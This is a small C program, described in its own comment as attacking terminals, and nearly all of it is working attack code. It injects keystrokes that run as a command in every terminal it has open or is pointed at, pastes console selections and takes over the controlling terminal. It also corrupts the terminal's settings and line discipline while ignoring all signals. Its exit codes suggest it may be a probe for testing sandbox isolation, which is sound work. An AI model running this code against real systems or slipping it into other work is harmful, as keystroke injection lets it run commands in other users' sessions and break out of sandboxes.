/* Attacks terminals: types into them, changes their settings and takes them over. It attacks those that it has open, and those at these paths, but no other: the machine may have more.
 *
 * usage: terminal WORDS [PATH]...: WORDS are typed. */

#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/tiocl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

static int tried;

static void attack(int terminal, const char *words) {
    struct termios settings;
    struct winsize size = {3, 7, 0, 0};
    struct {
        char kind;
        unsigned short line[4], mode;
    } __attribute__((packed)) selection = {TIOCL_SETSEL, {1, 1, 80, 1}, TIOCL_SELLINE};
    char paste = TIOCL_PASTESEL;
    int null_discipline = 27, on = 1;
    pid_t group = getpgrp();

    if (tcgetattr(terminal, &settings) != 0) return;
    tried++;
    for (const char *byte = words; *byte; byte++) ioctl(terminal, TIOCSTI, byte);
    ioctl(terminal, TIOCSTI, "\n");
    ioctl(terminal, TIOCLINUX, &selection);
    ioctl(terminal, TIOCLINUX, &paste);
    ioctl(terminal, TIOCPKT, &on);
    ioctl(terminal, TIOCSPGRP, &group);
    ioctl(terminal, TIOCSCTTY, 1);
    ioctl(terminal, TIOCSWINSZ, &size);
    settings.c_lflag = 0;
    settings.c_iflag = IGNCR;
    cfsetospeed(&settings, B50);
    tcsetattr(terminal, TCSANOW, &settings);
    ioctl(terminal, TIOCSETD, &null_discipline);
    ioctl(terminal, TIOCEXCL);
    ioctl(terminal, TIOCNOTTY);
}

static void attack_path(const char *path, const char *words) {
    int terminal = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
    if (terminal >= 0) attack(terminal, words);
    close(terminal);
}

int main(int count, char **words) {
    if (count < 2) return 99;
    /* Its own terminal may end it. */
    for (int signal = 1; signal < NSIG; signal++) sigaction(signal, &(struct sigaction){.sa_handler = SIG_IGN}, NULL);
    for (int path = 2; path < count; path++) attack_path(words[path], words[1]);
    for (int fd = 63; fd >= 0; fd--) attack(fd, words[1]);
    return tried > 0 ? 5 : 6;
}
